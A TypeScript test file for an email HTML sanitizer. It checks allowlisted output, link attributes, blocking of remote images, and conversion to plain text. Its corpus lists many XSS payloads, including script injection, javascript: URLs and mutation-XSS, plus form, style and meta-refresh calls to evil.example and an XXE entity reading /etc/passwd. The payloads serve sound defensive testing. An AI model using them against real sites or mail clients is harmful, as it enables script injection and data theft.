import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { safeHtml } from './html.ts'
import { readable } from './readable.ts'

const clean = (dirty: string) => safeHtml(dirty)?.html ?? ''

/** Everything that could run, load, submit or escape, as found in letters and in the minds of attackers. */
const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<img src="javascript:alert(1)">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<img srcset="https://evil.example/a.png 1x, x 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="cid:a"onerror="alert(1)">',
  '<img src="cid:&quot; onerror=&quot;alert(1)">',
  '<img data-remote="javascript:alert(1)" src="">',
  '<img src="https://evil.example/&quot; onload=&quot;alert(1)">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text x=1>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe><frame src=x><frameset onload=alert(1)>',
  '<object data="x.swf"><param name=x><embed src="x.swf"></object><applet code=x></applet>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="/settings/delete">x</a><a href="//evil.example">x</a><a href="?x=1">x</a>',
  '<a href="https://bank.example" onclick="alert(1)" target="_top" rel="opener" download>x</a>',
  '<form action="https://evil.example"><input name=pw type=password><button formaction="javascript:alert(1)">ok</button></form>',
  '<select><option>x</select><keygen><isindex action="javascript:alert(1)">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/p)}</style>',
  '<p style="background:url(https://evil.example/p)">x</p>',
  '<p style="background-color: rgb(0,0,0);position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<p style="color:expression(alert(1))">x</p><p style="-moz-binding:url(x)">x</p>',
  '<p style="color:red;/*">x</p><p style="color:\\72 ed;behavior:url(x)">x</p>',
  '<div id="root" class="mantine-Button" name="cookie">x</div><form id=attributes></form>',
  '<body background="https://evil.example/p.png" onload=alert(1) bgcolor=red>x</body>',
  '<table background="https://evil.example/p.png"><td background="x">x</td></table>',
  '<video src="https://evil.example/v" autoplay><audio src=x><track src=x><source src=x></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>',
  '<x-custom onfocus=alert(1) tabindex=1 autofocus>x</x-custom><dialog open>x</dialog><portal src=x></portal>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><p>&y;</p>',
  '<p title="<img src=x onerror=alert(1)>">x</p><p lang="\'><script>alert(1)</script>">x</p>',
  '<a\0href="javascript:alert(1)">x</a><im\0g src=x onerror=alert(1)>',
]

const tags =
  /^(a|abbr|address|b|bdi|big|blockquote|br|center|cite|code|dd|del|dfn|div|dl|dt|em|font|h[1-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var|wbr|caption|col|colgroup)$/
const values: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:|tel:)/,
  src: /^cid:[^<>]*$/,
  'data-remote': /^https?:\/\/[^<>\s]+$/,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
  style:
    /^((color|background-color|font-weight|font-style|font-size|text-align|text-decoration|white-space):[^:;()\\/]*(\([\d\s.,%/]*\))?;?)+$/,
}
const harmless =
  /^(alt|title|width|height|dir|lang|align|valign|colspan|rowspan|cellpadding|cellspacing|border|bgcolor|color|size|start|type)$/

/** Reads the output as strictly as a browser would read it leniently: nothing but known tags, attributes and values. */
function expectHarmless(html: string) {
  const rest = html.replace(
    /<(\/?)([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)( \/)?>/g,
    (_, _slash, tag: string, attributes: string) => {
      expect(tag).toMatch(tags)
      for (const [, name = '', value = ''] of attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
        if (values[name]) expect(value).toMatch(values[name])
        else expect(name).toMatch(harmless)
      }
      return ''
    },
  )
  expect(rest).not.toContain('<')
}

describe('the HTML of a stranger', () => {
  test.each(corpus)('%j is harmless', (dirty) => {
    for (const around of [dirty, `<div>${dirty}</div>`, `<table><tr><td>${dirty}`, `"'>${dirty}`])
      expectHarmless(clean(around))
  })

  test('stays harmless in any mixture', () => {
    const piece = fc.oneof(
      fc.constantFrom(...corpus, '<', '>', '"', "'", '<p ', '</', '<!--', '-->', '<a href="', '&lt;'),
      fc.string(),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const html = clean(pieces.join(''))
        expectHarmless(html)
        readable(html)
      }),
      { numRuns: 1500 },
    )
  })

  test('links open elsewhere and tell nothing about us', () => {
    expect(clean('<a href="https://voltmeer.example/x?a=1&b=2">x</a>')).toBe(
      '<a href="https://voltmeer.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
  })

  test('a remote picture is not loaded, a picture of the mail itself is shown', () => {
    expect(clean('<img src="https://t.example/p.gif?u=1" alt="logo">')).toBe(
      '<img alt="logo" data-remote="https://t.example/p.gif?u=1" />',
    )
    expect(clean('<img src="//t.example/p.gif">')).toBe('<img data-remote="https://t.example/p.gif" />')
    const safe = safeHtml('<img src="cid:meter%40klant"><img src="data:image/png;base64,iVBORw0KGgo=">')
    expect([...(safe?.shown ?? [])]).toEqual(['meter@klant', safe?.pictures[0]?.contentId])
    expect(safe?.pictures[0]).toMatchObject({ mediaType: 'image/png', inline: true })
  })

  test('too much to clean in reasonable time is not cleaned at all', () => {
    for (const flood of ['<div>', '<a><b><i>', '<', '<!--', '&#x41;', '</p>', '<b style="color:red">'])
      for (const times of [40_000, 3_000_000 / flood.length]) {
        expectHarmless(clean(flood.repeat(times)))
      }
  }, 60_000)
})

describe('HTML as text', () => {
  const read = (html: string) => readable(clean(html))

  test.each([
    ['paragraphs', '<p>Een</p><p>Twee<br>Drie</p>', 'Een\n\nTwee\nDrie'],
    ['white space', '  a\n  b <b> c</b>&nbsp;d ', 'a b c d'],
    [
      'a link with its address',
      '<a href="https://x.nl/a">hier</a> en <a href="https://x.nl">x.nl</a>',
      'hier <https://x.nl/a> en x.nl',
    ],
    ['a mail address once', '<a href="mailto:a@x.nl">a@x.nl</a>', 'a@x.nl'],
    ['a list in a list', '<ul><li>a<ol><li>b</li><li>c</li></ol></li><li>d</li></ul>', '- a\n  1. b\n  2. c\n- d'],
    ['a quote', '<p>Ja</p><blockquote><p>een</p><p>twee</p></blockquote><p>Nee</p>', 'Ja\n\n> een\n>\n> twee\n\nNee'],
    ['a quote in a quote', '<blockquote>a<blockquote>b</blockquote></blockquote>', '> a\n>\n> > b'],
    ['a table', '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>', 'a  b\nc  d'],
    ['code as it stands', '<pre>a\n  b</pre>', 'a\n  b'],
    ['a picture by its words', '<img src="cid:x" alt="meter"> <img src="cid:y">', '[meter]'],
    ['signs', 'a &lt; b &amp;&amp; c &gt; d &euro; &quot;', 'a < b && c > d € "'],
  ])('%s', (_, html, text) => {
    expect(read(html)).toBe(text)
  })
})
